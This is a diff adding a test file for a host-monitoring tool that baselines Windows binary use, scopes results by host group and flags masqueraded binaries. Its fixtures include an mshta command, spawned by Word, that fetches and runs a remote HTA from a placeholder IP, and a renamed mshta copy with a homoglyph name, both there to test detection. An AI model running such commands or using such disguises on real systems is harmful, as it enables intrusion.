@@ -1,0 +1,271 @@
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import type { Scope } from '@/lib/pipeline/actor'
+import { closePool, pool } from '@/lib/store/pool'
+import { type BinarySort, listBinaries } from '@/lib/store/screens/binaries'
+import { loadBreakdown } from '@/lib/store/screens/binary/breakdown'
+import { loadDeviationsOf, loadHostsOf } from '@/lib/store/screens/binary/hosts'
+import { countMasquerading, loadImages } from '@/lib/store/screens/binary/images'
+import { loadParentsByPatterns } from '@/lib/store/screens/binary/parents-by-patterns'
+import { findBinary, loadReporting, loadTotals, loadUseByGroup } from '@/lib/store/screens/binary/view'
+import { daysOf, findDataSpan, lastDays, requestedWindow } from '@/lib/store/screens/data-window'
+import { loadHostBaseline } from '@/lib/store/screens/host/baseline'
+import { findHost, loadCoverageOf } from '@/lib/store/screens/host/find-host'
+import { loadTimeline } from '@/lib/store/screens/host/timeline'
+import { listHosts } from '@/lib/store/screens/hosts'
+import { createTestDatabase, type TestDatabase } from '@/lib/store/test-database'
+import { ingestExamples } from './ingest/example-use'
+import { recompute } from './recompute/recompute'
+
+let database: TestDatabase
+const ALL: Scope = { kind: 'all' }
+const TILLS: Scope = { kind: 'groups', groupIds: [1] }
+const MSHTA = 'C:\\Windows\\System32\\mshta.exe'
+const NOTEPAD = 'C:\\Windows\\System32\\notepad.exe'
+const WORD = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'
+
+beforeAll(async () => {
+  database = await createTestDatabase()
+  process.env['APP_DATABASE_URL'] = database.appUrl
+  const day = (number: number, hour = 10) => `2026-01-${String(number).padStart(2, '0')}T${hour}:00:00Z`
+  await ingestExamples(pool(), [
+    { host: 'till-1', at: day(5), image: MSHTA, commandLine: 'mshta.exe C:\\Apps\\form.hta' },
+    {
+      host: 'till-1',
+      at: day(6, 11),
+      image: MSHTA,
+      commandLine: 'mshta.exe C:\\Apps\\form.hta',
+      user: 'CORP\\ben',
+    },
+    {
+      host: 'till-1',
+      at: day(6),
+      image: MSHTA,
+      commandLine: 'mshta.exe http://203.0.113.9/a.hta',
+      parentImage: WORD,
+    },
+    { host: 'till-2', at: day(6), image: NOTEPAD, commandLine: 'notepad.exe a.txt' },
+    { host: 'srv-1', at: day(6), image: NOTEPAD, commandLine: null },
+    {
+      host: 'srv-2',
+      at: day(5),
+      image: 'C:\\Users\\Public\\hidd\u0435n.exe',
+      originalFileName: 'MSHTA.EXE',
+      commandLine: 'hidden.exe x.hta',
+    },
+  ])
+  await pool().query("INSERT INTO host_group (id, name) VALUES (1, 'Tills'), (2, 'Servers')")
+  await pool().query(
+    `INSERT INTO host_group_member (host_id, group_id, valid_from)
+     SELECT id, CASE WHEN name LIKE 'till%' THEN 1 ELSE 2 END, '1970-01-01' FROM host`,
+  )
+  await recompute(pool())
+})
+afterAll(async () => {
+  await closePool()
+  await database.drop()
+})
+
+const request = { q: '', descending: true, page: 1, pageSize: 500, after: null, filters: {} } as const
+const window = { from: '2026-01-05', to: '2026-01-06' }
+
+async function mshta(host: string | null = null, group: string | null = null) {
+  const entry = await findBinary('mshta.exe')
+  if (!entry) throw new Error('no entry')
+  return { entry, view: { entryId: entry.id, window, host, group } }
+}
+
+describe('the period', () => {
+  test('ends at the newest data, not today', async () => {
+    expect(await findDataSpan(ALL)).toEqual(window)
+    expect(lastDays({ from: '2025-01-01', to: '2026-01-06' }, 7)).toEqual({
+      from: '2025-12-31',
+      to: '2026-01-06',
+    })
+    expect(daysOf(window)).toEqual(['2026-01-05', '2026-01-06'])
+  })
+  test('a link with nonsense in it opens with the usual period', () => {
+    const odd = { filters: { days: ['x'], from: ['2026-13-99'], to: ['-'] } }
+    expect(requestedWindow(window, odd, 30)).toEqual(window)
+    const backwards = { filters: { from: ['2026-01-06'], to: ['2026-01-05'] } }
+    expect(requestedWindow(window, backwards, 30)).toEqual(window)
+  })
+})
+
+describe('binaries', () => {
+  const list = async (
+    scope: Scope,
+    filters: Record<string, string[]> = {},
+    sort: BinarySort = 'executions',
+  ) => listBinaries(scope, { ...request, sort, filters }, window)
+  test('each is listed with its use, those that nobody used too', async () => {
+    const { rows, total } = await list(ALL)
+    expect(rows[0]).toMatchObject({
+      slug: 'mshta.exe',
+      executions: 4,
+      hosts: 2,
+      patterns: 3,
+      daily: [2, 2],
+      decision: null,
+    })
+    expect(rows.at(-1)).toMatchObject({ executions: 0, hosts: 0, lastAt: null, highestScoreMillibits: null })
+    expect(total).toBe(rows.length)
+  })
+  test('never seen and seen are told apart by all data, not by the period', async () => {
+    expect((await list(ALL, { seen: ['yes'] })).rows.map(({ slug }) => slug)).toEqual(['mshta.exe'])
+    const before = { from: '2020-01-01', to: '2020-01-02' }
+    const seen = await listBinaries(ALL, { ...request, sort: 'name', filters: { seen: ['yes'] } }, before)
+    expect(seen.rows).toMatchObject([{ slug: 'mshta.exe', executions: 0, hosts: 0 }])
+  })
+  test('hosts outside the reader’s groups do not count', async () => {
+    expect((await list(TILLS)).rows[0]).toMatchObject({ slug: 'mshta.exe', executions: 3, hosts: 1 })
+    expect((await list({ kind: 'groups', groupIds: [99] }, { seen: ['yes'] })).rows).toEqual([])
+  })
+  test('every sort and filter is answered', async () => {
+    for (const sort of ['name', 'hosts', 'patterns', 'parents', 'deviations', 'score', 'lastSeen'] as const)
+      expect((await list(ALL, {}, sort)).rows.length).toBeGreaterThan(100)
+    const narrow = { technique: ['T1218.005'], named: ['yes'], decision: ['undecided'], tier: ['baseline'] }
+    expect((await list(ALL, narrow)).rows.map(({ slug }) => slug)).toEqual(['mshta.exe'])
+  })
+})
+
+describe('one binary', () => {
+  test('absence is only told of hosts with full coverage', async () => {
+    const { view } = await mshta()
+    const { using, notSeen, counts } = await loadHostsOf(ALL, view)
+    expect(using.map(({ name }) => name).sort()).toEqual(['srv-2', 'till-1'])
+    expect(notSeen.map(({ name, coverage }) => [name, coverage])).toEqual([
+      ['srv-1', 'no-command-lines'],
+      ['till-2', 'full'],
+    ])
+    expect(counts).toEqual({ full: 1, partial: 0, 'no-command-lines': 1, silent: 0 })
+  })
+  test('patterns come with days, hours, hosts and groups', async () => {
+    const { view } = await mshta()
+    const { rows, total } = await loadBreakdown(ALL, view, 'pattern')
+    expect(total).toBe(3)
+    expect(rows[0]).toMatchObject({
+      executions: 2,
+      days: 2,
+      hosts: 1,
+      hours: (1 << 10) | (1 << 11),
+      groups: { Tills: 1 },
+    })
+    expect((await loadBreakdown(ALL, view, 'user')).rows.map(({ value }) => value).sort()).toEqual([
+      'CORP\\ada',
+      'CORP\\ben',
+    ])
+  })
+  test('parents × patterns adds up to the executions, for a host and a group as well', async () => {
+    for (const [host, group, executions] of [
+      [null, null, 4],
+      ['till-1', null, 3],
+      [null, 'Servers', 1],
+    ] as const) {
+      const { view } = await mshta(host, group)
+      const { counts, parents, patterns } = await loadParentsByPatterns(ALL, view)
+      expect(counts.reduce((sum, cell) => sum + cell.executions, 0)).toBe(executions)
+      expect((await loadTotals(ALL, view)).executions).toBe(executions)
+      for (const cell of counts) {
+        expect(parents.some(({ id }) => id === cell.parent)).toBe(true)
+        expect(patterns.some(({ id }) => id === cell.pattern)).toBe(true)
+      }
+    }
+  })
+  test('a renamed copy with deceptive letters in a wrong folder is told as such', async () => {
+    const { entry, view } = await mshta()
+    const images = await loadImages(ALL, view, entry)
+    expect(images.find(({ renamed }) => renamed)).toMatchObject({
+      deceptive: true,
+      folderExpected: false,
+      executions: 1,
+    })
+    expect(images.find(({ path }) => path === MSHTA)).toMatchObject({
+      deceptive: false,
+      folderExpected: true,
+      renamed: false,
+    })
+    expect(await countMasquerading(ALL, view)).toEqual({ renamed: 1, impostor: 0, wrongFolder: 1 })
+  })
+  test('use by group and open deviations keep to the reader’s hosts', async () => {
+    const { entry, view } = await mshta()
+    const days = daysOf(window)
+    expect(await loadUseByGroup(ALL, view, days)).toEqual([
+      { name: 'Tills', values: [1, 2] },
+      { name: 'Servers', values: [1, 0] },
+    ])
+    expect(await loadUseByGroup(TILLS, view, days)).toEqual([{ name: 'Tills', values: [1, 2] }])
+    expect((await loadReporting(ALL, window)).groups).toEqual(
+      new Map([
+        ['Servers', 2],
+        ['Tills', 2],
+      ]),
+    )
+    const everywhere = await loadDeviationsOf(ALL, entry.id)
+    const tills = await loadDeviationsOf(TILLS, entry.id)
+    expect(tills.length).toBeGreaterThan(0)
+    expect(tills.length).toBeLessThan(everywhere.length)
+  })
+})
+
+describe('hosts', () => {
+  test('say what they report and use', async () => {
+    const { rows, total } = await listHosts(ALL, { ...request, sort: 'executions' }, window)
+    expect(total).toBe(4)
+    expect(rows[0]).toMatchObject({
+      name: 'till-1',
+      group: 'Tills',
+      daysCovered: 2,
+      binaries: 1,
+      executions: 3,
+      sensors: ['sysmon'],
+    })
+    expect(rows.find(({ name }) => name === 'srv-1')).toMatchObject({
+      executions: 0,
+      sendsCommandLines: false,
+    })
+    for (const { maturity } of rows) expect(maturity).toBeGreaterThanOrEqual(0)
+  })
+  test('are found by group, sensor, gap and name, within the reader’s groups', async () => {
+    const names = async (scope: Scope, filters: Record<string, string[]>, q = '') => {
+      const { rows } = await listHosts(
+        scope,
+        { ...request, q, sort: 'name', descending: false, filters },
+        window,
+      )
+      return rows.map(({ name }) => name)
+    }
+    expect(await names(ALL, { group: ['Servers'] })).toEqual(['srv-1', 'srv-2'])
+    expect(await names(ALL, { gaps: ['no-command-lines'] })).toEqual(['srv-1'])
+    expect(await names(ALL, { sensor: ['defender'] })).toEqual([])
+    expect(await names(TILLS, {}, '-1')).toEqual(['till-1'])
+  })
+  test('one host shows its baseline beside group and fleet', async () => {
+    const { rows } = await listHosts(ALL, { ...request, q: 'till-1', sort: 'name' }, window)
+    const id = rows[0]?.id ?? 0
+    const host = await findHost(ALL, id)
+    if (!host) throw new Error('no host')
+    expect(host).toMatchObject({
+      name: 'till-1',
+      group: 'Tills',
+      aliases: [{ alias: 'till-1', pinned: false }],
+    })
+    const [baseline] = await loadHostBaseline(ALL, host, window)
+    expect(baseline).toMatchObject({ slug: 'mshta.exe', executions: 3 })
+    expect(baseline?.uses[0]).toMatchObject({ executions: 2, users: ['CORP\\ada', 'CORP\\ben'], days: 2 })
+    expect(baseline?.uses.find(({ parent }) => parent?.startsWith('winword'))).toMatchObject({
+      trusted: false,
+      fleetHosts: 0,
+      groupHosts: 0,
+    })
+    expect(await loadCoverageOf(ALL, id, window)).toMatchObject([
+      { sensor: 'sysmon', days: [{ creations: 1 }, { creations: 2 }] },
+    ])
+    const timeline = await loadTimeline(ALL, id)
+    expect(timeline.filter(({ kind }) => kind === 'execution')).toHaveLength(3)
+    expect(timeline.map(({ at }) => at)).toEqual(timeline.map(({ at }) => at).toSorted((a, b) => b - a))
+  })
+  test('a host outside the reader’s groups is not found', async () => {
+    const { rows } = await listHosts(ALL, { ...request, q: 'srv-1', sort: 'name' }, window)
+    expect(await findHost(TILLS, rows[0]?.id ?? 0)).toBeNull()
+  })
+})
